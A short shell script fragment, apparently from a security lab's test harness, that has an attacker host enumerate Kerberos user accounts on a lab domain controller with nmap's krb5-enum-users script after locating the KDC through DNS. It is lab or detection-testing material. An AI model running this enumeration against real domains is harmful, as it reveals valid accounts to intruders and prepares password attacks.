# Kerberos account enumeration with nmap's krb5-enum-users (TCP 88) from the attacker KALI.
# userdb: data/users-nmap.txt (6 real accounts, 19 unknown names). One AS-REQ without
# pre-authentication per name; the KDC answers 6 (unknown) or 25 (PREAUTH_REQUIRED: exists).
run() {
  # like the tools' own KDC discovery: locate the KDC through DNS first (this also names DC1)
  atk dig +short @"$DC_IP" "_kerberos._tcp.$DNSDOMAIN" SRV
  atk dig +short @"$DC_IP" "dc1.$DNSDOMAIN" A
  grep -v '^#' "$LAB_ROOT/test/lab/data/users-nmap.txt" >users-nmap.txt   # nmap would read comments as names
  atk nmap -Pn -n -p 88 --script krb5-enum-users \
    --script-args "krb5-enum-users.realm=$REALM,userdb=$PWD/users-nmap.txt" "$DC_IP"
}
